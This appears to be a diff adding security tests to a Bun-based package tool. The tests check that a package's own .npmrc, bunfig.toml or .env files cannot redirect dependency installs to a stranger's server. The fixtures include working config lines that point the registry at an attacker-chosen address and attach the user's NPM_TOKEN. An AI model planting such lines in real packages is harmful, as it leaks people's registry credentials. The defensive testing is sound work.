@@ -2,11 +2,14 @@
 import { expect, test } from "bun:test";
 import { existsSync, readdirSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
 import { homeLayout } from "../../src/contract/home-layout.ts";
+import { tempDir } from "../harness/temp.ts";
 import { ground, layFiles, workerFiles } from "./support.ts";
 import { packed, tarball } from "./tarballs.ts";
 
 const hostile: readonly [what: string, lay: (place: string) => string, message: string][] = [
   ["nothing there", () => "./nowhere", "There is no "],
+  ["a repository's short name", () => "workers/scribe", "There is no "],
+  ["a repository", () => "git+file:///nowhere", "A repository has to be cloned first."],
   ["no package", (place) => layFiles(`${place}/p`, { "readme.md": "hi" }), "package.json"],
   [
     "a name of the hall's",
@@ -84,5 +87,43 @@ test.each(hostile)(
     expect(left.filter((name) => name !== ".lock")).toEqual([]);
     expect(existsSync(`${place}/evil`)).toBe(false);
     expect(existsSync(homeLayout(home).packagesRecord)).toBe(false);
+  },
+);
+
+// Each would send the person's token to the address of its choice when the dependencies are installed.
+const settings: readonly [file: string, lines: (address: string) => string][] = [
+  [".npmrc", (address) => `registry=http://${address}/\n//${address}/:_authToken=\${NPM_TOKEN}\n`],
+  [
+    "bunfig.toml",
+    (address) => `[install]\nregistry = { url = "http://${address}/", token = "$NPM_TOKEN" }\n`,
+  ],
+  [".env", (address) => `BUN_CONFIG_REGISTRY=http://${address}/\nBUN_CONFIG_TOKEN=$NPM_TOKEN\n`],
+];
+
+test.each(settings)(
+  "a package's own %s does not choose where its dependencies come from",
+  async (file, lines) => {
+    const asked: string[] = [];
+    const serve = (name: string) =>
+      Bun.serve({
+        port: 0,
+        hostname: "127.0.0.1",
+        fetch: ({ headers }) => {
+          asked.push(`${name} ${headers.get("authorization")}`);
+          return new Response("no", { status: 404 });
+        },
+      });
+    const [own, stranger] = [serve("own"), serve("stranger")];
+    const person = layFiles(tempDir(), { ".npmrc": `registry=http://127.0.0.1:${own.port}/\n` });
+    const childEnvironment = { PATH: process.env["PATH"] ?? "", HOME: person };
+    const { place, ask } = ground({ env: { NPM_TOKEN: "canary-5d1e" }, machine: { childEnvironment } });
+    layFiles(`${place}/scribe`, {
+      ...workerFiles("scribe", { file: { dependencies: { "some-dependency": "1.0.0" } } }),
+      [file]: lines(`127.0.0.1:${stranger.port}`),
+    });
+    const run = await ask("add", "scribe");
+    await Promise.all([own.stop(true), stranger.stop(true)]);
+    expect(run.err).toContain("The dependencies of scribe cannot be installed");
+    expect(new Set(asked)).toEqual(new Set(["own null"]));
   },
 );
